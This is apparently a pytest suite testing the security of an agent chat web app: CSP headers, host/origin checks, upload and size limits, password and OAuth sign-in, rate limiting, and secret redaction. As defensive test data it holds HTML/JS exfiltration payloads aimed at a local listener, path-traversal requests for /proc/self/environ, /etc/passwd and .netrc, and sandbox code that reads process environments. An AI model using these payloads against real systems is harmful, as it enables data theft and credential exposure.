"""Doors: who may come in, what a page may load, and that no secret is to be had through any of them."""

from __future__ import annotations

import http.client
import json
import threading
import time
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from agents import make_agent, solve
from agents.chat import access
from agents.chat.page import launching
from agents.chat.rules import RefusedError
from agents.chat.security import guards

from .browser import served
from .scripted import ScriptedModel, step
from .serving import running

ROOT = Path(__file__).parent.parent
get, post = partial(httpx.get, timeout=60), partial(httpx.post, timeout=60)  # seconds
SECRETS = {
    "SMOLDISTILL_PASSWORD": "pw-canary-5711",
    "HF_TOKEN": "hf_canary5722",
    "OPENAI_API_KEY": "sk-canary-5733",
}


class Listener(ThreadingHTTPServer):
    """Another machine, as far as a page can tell: it notes who asks it for what."""

    def __init__(self):
        super().__init__(("127.0.0.2", 0), Noting)
        self.asked: list[str] = []
        self.address = f"http://127.0.0.2:{self.server_port}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Noting(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("access-control-allow-origin", "*")
        self.send_header("content-type", "image/gif")
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def elsewhere():
    with Listener() as listener:
        yield listener
        listener.shutdown()


def chat_page(answer):
    """A chat that shows an answer as it stands, as little careful as can be."""
    import gradio as gr

    with gr.Blocks(analytics_enabled=False) as page:
        chat = gr.Chatbot(elem_id="chat", sanitize_html=False, allow_tags=True)
        box = gr.Textbox(elem_id="box", show_label=False)

        def reply(message, history):
            said = {"role": "user", "content": message}
            return [*history, said, {"role": "assistant", "content": answer(message)}]

        sent = box.submit(reply, [box, chat], chat, api_visibility="private")
        sent.then(None, None, None, js="() => { document.title = 'told' }")
    return page


@pytest.fixture(scope="module")
def guarded(elsewhere):
    """A page with our guards and Gradio's own switched off, and the address of its server."""
    leak = elsewhere.address

    def answer(message: str) -> str:
        kind, _, query = message.partition(" ")
        return {
            "markdown": f"![x]({leak}/markdown?q={query})\n\ndone",
            "tag": f"<img src='{leak}/tag?q={query}'><b>done</b>",
            "style": f"<div style='background:url({leak}/style)'>done</div>"
            f"<style>@import url({leak}/import);</style>",
            "media": f"<video autoplay src='{leak}/video'></video><iframe src='{leak}/frame'></iframe>done",
            "script": f"<img src=x onerror=\"fetch('{leak}/fetch');new Image().src='{leak}/image';"
            f"navigator.sendBeacon('{leak}/beacon');document.getElementById('chat').append('ran')\">done",
            "form": f"<form action='{leak}/form'><button id='send'>done</button></form>",
        }[kind]

    middleware = guards(only_at_home=True)
    with served(chat_page(answer), app_kwargs={"middleware": middleware}) as url:
        yield url


def test_an_answer_can_load_nothing_from_elsewhere(guarded, elsewhere, visit):
    page = visit(guarded)
    chat, box = page.locator("#chat"), page.locator("#box textarea")
    kinds = ("markdown", "tag", "style", "media", "script")
    for n, kind in enumerate(kinds, start=1):
        box.fill(f"{kind} secret")
        box.press("Enter")
        chat.locator("[data-testid=bot]").nth(n - 1).get_by_text("done").wait_for()
    page.wait_for_function("document.title === 'told'")  # a page's own script runs
    page.wait_for_load_state("networkidle")
    # Chromium has begun each of them, and the policy has ended it before anything was sent.
    assert elsewhere.asked == []
    refused = [text for text in visit.errors if "Content Security Policy" in text]
    assert len(refused) >= 4 and all(elsewhere.address in text for text in refused), refused
    visit.errors.clear()
    visit.outside.clear()


def test_headers_stand_on_every_response_and_a_space_may_be_framed(guarded, monkeypatch):
    for path in ("", "config", "nothing-here", "gradio_api/info"):
        headers = get(f"{guarded}{path}").headers
        assert "img-src 'self' data: blob:" in headers["content-security-policy"], path
        assert "frame-ancestors 'self'" in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert (
            headers["referrer-policy"] == "no-referrer"
            and "camera=()" in headers["permissions-policy"]
        )
    monkeypatch.setenv("SYSTEM", "spaces")
    monkeypatch.setenv("SPACE_ID", "me/space")
    assert guards()[0].kwargs["framed"]


def test_a_page_on_loopback_answers_to_its_own_names_and_pages_alone(guarded):
    assert get(guarded, headers={"host": "evil.example"}).status_code == 421
    assert get(guarded.replace("127.0.0.1", "localhost")).status_code == 200
    call = f"{guarded}gradio_api/queue/join"
    for foreign in ("http://evil.example", "http://localhost:1", "http://[", "null", ""):
        assert post(call, json={}, headers={"origin": foreign}).status_code == 403
    assert post(call, json={}, headers={"origin": guarded.rstrip("/")}).status_code not in (
        403,
        421,
    )


def test_a_page_takes_no_files_and_no_request_without_end(guarded):
    upload = post(f"{guarded}gradio_api/upload", files={"files": b"x"})
    assert upload.status_code == 403 and "no files" in upload.text
    call, as_json = f"{guarded}gradio_api/queue/join", {"content-type": "application/json"}
    host, port = guarded.removeprefix("http://").rstrip("/").split(":")
    large = http.client.HTTPConnection(host, int(port), timeout=60)
    large.putrequest("POST", "/gradio_api/queue/join")
    large.putheader("content-length", "99999999")
    large.endheaders()
    assert large.getresponse().status == 413
    large.close()

    def endless():
        while True:
            yield b" " * 1_000_000

    with pytest.raises(httpx.HTTPError):  # a 413, or broken off before it could be read
        post(call, content=endless(), headers=as_json).raise_for_status()


@pytest.fixture
def alone(monkeypatch):
    """Neither a Space nor a password."""
    for name in (
        *SECRETS,
        "SMOLDISTILL_USER",
        "SMOLDISTILL_API_KEY",
        "SPACE_ID",
        "OAUTH_CLIENT_ID",
    ):
        monkeypatch.delenv(name, raising=False)
    return monkeypatch


def test_other_machines_are_served_with_a_guard_only(alone):
    for host in ("127.0.0.1", "localhost", "::1", "127.0.0.9"):
        access.check_host(host)
    for host in ("0.0.0.0", "::", "192.168.1.2", "my-machine"):
        with pytest.raises(ValueError, match="--open-to-all"):
            access.check_host(host)
        access.check_host(host, open_to_all=True)
    for empty in ("", " "):
        with pytest.raises(ValueError, match="The host is empty"):
            access.check_host(empty, open_to_all=True)
    alone.setenv("SMOLDISTILL_PASSWORD", "short")
    with pytest.raises(ValueError, match="8 characters") as error:
        access.check_host("0.0.0.0")
    assert "short." not in str(error.value)
    alone.setenv("SMOLDISTILL_PASSWORD", "long enough")
    access.check_host("0.0.0.0")
    alone.setenv("SMOLDISTILL_API_KEY", "long enough")
    with pytest.raises(ValueError, match="16 characters"):
        access.check_host("0.0.0.0", secret=access.KEY)
    alone.delenv("SMOLDISTILL_PASSWORD")
    alone.setenv("SYSTEM", "spaces")
    alone.setenv("SPACE_ID", "me/space")
    access.check_host("0.0.0.0")


def test_the_password_of_the_environment_opens_and_no_other(alone):
    assert access.password_check() is None and launching()["auth_message"] is None
    alone.setenv("SMOLDISTILL_PASSWORD", "öffne dich")
    check = access.password_check()
    assert check("anyone", "öffne dich") and not check("anyone", "Öffne dich") and not check("", "")
    assert "any user name" in launching()["auth_message"]
    assert not check("x", "\ud800")
    alone.setenv("SMOLDISTILL_USER", "ann")
    check = access.password_check()
    assert launching()["auth_message"] is None
    assert check("ann", "öffne dich") and not check("bob", "öffne dich") and not check("ann", "ann")


def test_a_page_with_a_password_shows_nothing_before_and_slows_who_guesses(alone):
    from starlette.middleware import Middleware

    alone.setenv("SMOLDISTILL_PASSWORD", SECRETS["SMOLDISTILL_PASSWORD"])
    middleware = [*guards(), Middleware(access.SlowTries)]
    page = chat_page(str)
    settings = {"auth": access.password_check(), "auth_message": access.sign_in_message()}
    with served(page, **settings, app_kwargs={"middleware": middleware}) as url:
        assert "any user name will do" in get(url).text
        assert get(f"{url}config").status_code == 401
        assert get(f"{url}gradio_api/info").status_code == 401
        tries = [login(url, f"guess {n}").status_code for n in range(4)]
        assert tries == [400] * 4
        with httpx.Client(base_url=url, timeout=60) as client:
            right = {"username": "x", "password": SECRETS["SMOLDISTILL_PASSWORD"]}
            assert client.post("login", data=right).status_code == 200
            config = client.get("config")
            assert config.status_code == 200 and "canary" not in config.text
        # Too many from here by now, right or wrong.
        late = login(url, SECRETS["SMOLDISTILL_PASSWORD"])
        assert late.status_code == 429 and int(late.headers["retry-after"]) > 0


def login(url: str, password: str) -> httpx.Response:
    return post(f"{url}login", data={"username": "x", "password": password})


def test_on_a_space_with_oauth_only_who_is_signed_in_may_ask(alone):
    class Asking:
        headers = {"x-forwarded-for": "8.8.8.8"}  # noqa: RUF012
        client = None
        session: dict = {}  # noqa: RUF012

    assert not access.oauth() and access.who(Asking()) == "unknown"
    alone.setenv("SYSTEM", "spaces")
    alone.setenv("SPACE_ID", "me/space")
    assert access.who(Asking()) == "8.8.8.8"
    alone.setenv("OAUTH_CLIENT_ID", "x")
    with pytest.raises(RefusedError, match="sign in"):
        access.who(Asking())
    Asking.session = {"oauth_info": {"userinfo": {"preferred_username": "ann"}, "expires_at": 9e9}}
    assert access.who(Asking()) == "@ann"
    Asking.session = {"oauth_info": {"userinfo": {"preferred_username": "ann"}, "expires_at": 1}}
    with pytest.raises(RefusedError):
        access.who(Asking())


def test_signing_in_at_the_hub_is_done_and_undone(alone):
    """Gradio's own routes, with a provider on loopback in the Hub's place."""
    import gradio as gr
    import gradio.oauth
    from fastapi import FastAPI

    from agents.chat.ask import add_ask
    from agents.chat.rules import Rules

    with Provider() as provider:
        for name, value in provider.settings().items():
            alone.setattr(gradio.oauth, name, value)
            alone.setenv(name, value)
        alone.setenv("SYSTEM", "spaces")
        alone.setenv("SPACE_ID", "me/space")
        with gr.Blocks(analytics_enabled=False) as page:
            gr.LoginButton()
            add_ask(lambda: make_agent(ScriptedModel(step("Ok.", "final_answer(1)")), []), Rules())
        app = gr.mount_gradio_app(FastAPI(), page, "/page", ssr_mode=False, run_history=False)
        with running(app) as url:
            page = f"{url}/page"
            assert "sign in" in ask(page).text
            begun = get(f"{page}/login/huggingface")
            assert begun.headers["location"].startswith(f"{provider.address}/authorize")
            back, cookies = provider.consent(begun.headers["location"]), cookie(begun)
            ended = get(f"{page}/login/callback", params=back, headers=cookies)
            assert ended.status_code in (302, 307), ended.text
            assert ask(page, ended).json()["data"][0]["answer"] == "1"
            out = get(f"{page}/logout", headers=cookie(ended))
            assert "sign in" in ask(page, out).text
        provider.shutdown()


def ask(page: str, after: httpx.Response | None = None) -> httpx.Response:
    """The public endpoint, called with the session that a reply has left."""
    headers = cookie(after) if after else {}
    return post(f"{page}/gradio_api/run/ask", json={"data": ["Hi?"]}, headers=headers)


def cookie(reply: httpx.Response) -> dict[str, str]:
    """The session's cookie as a header: it is for https alone, as on a Space, and loopback has none."""
    return {"cookie": reply.headers["set-cookie"].partition(";")[0]}


class Provider(ThreadingHTTPServer):
    """An OpenID provider that lets everybody in as ann."""

    def __init__(self):
        from joserfc.jwk import RSAKey

        super().__init__(("127.0.0.1", 0), OpenID)
        self.address = f"http://127.0.0.1:{self.server_port}"
        self.key = RSAKey.generate_key(2048, {"kid": "1"})
        self.nonce = ""
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def settings(self) -> dict[str, str]:
        return {
            "OAUTH_CLIENT_ID": "client",
            "OAUTH_CLIENT_SECRET": "secret-canary",
            "OAUTH_SCOPES": "openid profile",
            "OPENID_PROVIDER_URL": self.address,
        }

    def consent(self, location: str) -> dict[str, str]:
        """What ann's browser brings back from the page at that address."""
        asked = dict(httpx.URL(location).params)
        self.nonce = asked["nonce"]
        return {"code": "a-code", "state": asked["state"]}

    def token(self) -> dict:
        from joserfc import jwt

        claims = {
            "iss": self.address,
            "aud": "client",
            "sub": "1",
            "nonce": self.nonce,
            "iat": int(time.time()),
            "exp": int(time.time()) + 600,
            "name": "Ann",
            "preferred_username": "ann",
            "profile": "",
            "picture": "",
        }
        signed = jwt.encode({"alg": "RS256", "kid": "1"}, claims, self.key)
        return {"access_token": "t", "token_type": "bearer", "expires_in": 600, "id_token": signed}


class OpenID(BaseHTTPRequestHandler):
    def do_GET(self):
        here = self.server.address
        known = {
            "/.well-known/openid-configuration": {
                "issuer": here,
                "authorization_endpoint": f"{here}/authorize",
                "token_endpoint": f"{here}/token",
                "jwks_uri": f"{here}/keys",
                "id_token_signing_alg_values_supported": ["RS256"],
            },
            "/keys": {"keys": [self.server.key.as_dict(private=False)]},
        }
        self.answer(known[self.path])

    def do_POST(self):
        self.rfile.read(int(self.headers["content-length"]))
        self.answer(self.server.token())

    def answer(self, value: dict) -> None:
        data = json.dumps(value).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_):
        pass


def test_no_secret_of_the_environment_is_to_be_had_through_a_page(guarded, monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    found = [
        get(guarded + path) for path in ("", "config", "gradio_api/info", "gradio_api/openapi.json")
    ]
    for path in (
        "/proc/self/environ",
        "/etc/passwd",
        str(ROOT / "app.py"),
        str(Path.home() / ".netrc"),
        "../.env",
    ):
        for door in ("gradio_api/file=", "file=", "static/", "gradio_api/proxy=file://"):
            reply = get(f"{guarded}{door}{path}")
            assert reply.status_code in (400, 403, 404, 500), (door, path, reply.status_code)
            found.append(reply)
    assert not any("canary" in reply.text or "root:" in reply.text for reply in found)


def test_no_secret_is_to_be_had_by_code_in_the_sandbox(monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    code = (
        "import os\nfound = [str(dict(os.environ))]\n"
        "for pid in ('self', os.getppid(), 1):\n"
        "    try:\n        found.append(open(f'/proc/{pid}/environ').read())\n"
        "    except Exception as error:\n        found.append(type(error).__name__)\n"
        "final_answer(repr(found))"
    )
    from agents.sandbox import SandboxExecutor

    executor = SandboxExecutor(["*"], interpreter="python")  # without its inner interpreter
    agent = make_agent(ScriptedModel(step("Look.", code)), [], imports=["*"], executor=executor)
    trajectory = solve(agent, "Hi?")
    assert trajectory.answer and "canary" not in trajectory.model_dump_json()


def test_no_secret_is_to_be_had_from_a_tool_that_fails(monkeypatch):
    from smolagents import tool

    key = SECRETS["OPENAI_API_KEY"]
    monkeypatch.setenv("OPENAI_API_KEY", key)

    @tool
    def paid_search(query: str) -> str:
        """Search where a key is wanted.

        Args:
            query: what for
        """
        raise (ValueError if query == "a" else httpx.HTTPError)(f"401 for https://e/?key={key}")

    code = "try:\n    paid_search('a')\nexcept Exception as error:\n    print(error, error.args)\npaid_search('b')"
    model = ScriptedModel(step("Search.", code), step("Hm.", "final_answer(1)"))
    trajectory = solve(make_agent(model, [paid_search]), "Hi?")
    told = trajectory.model_dump_json()
    assert "401 for https://e/?key=***" in told and "canary" not in told


def test_a_failures_reason_holds_no_secret(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRETS["OPENAI_API_KEY"])
    error = RuntimeError(f"401 for {SECRETS['OPENAI_API_KEY']}")
    trajectory = solve(make_agent(ScriptedModel(error), []), "Hi?")
    assert trajectory.stop == "failed" and "canary" not in trajectory.model_dump_json()
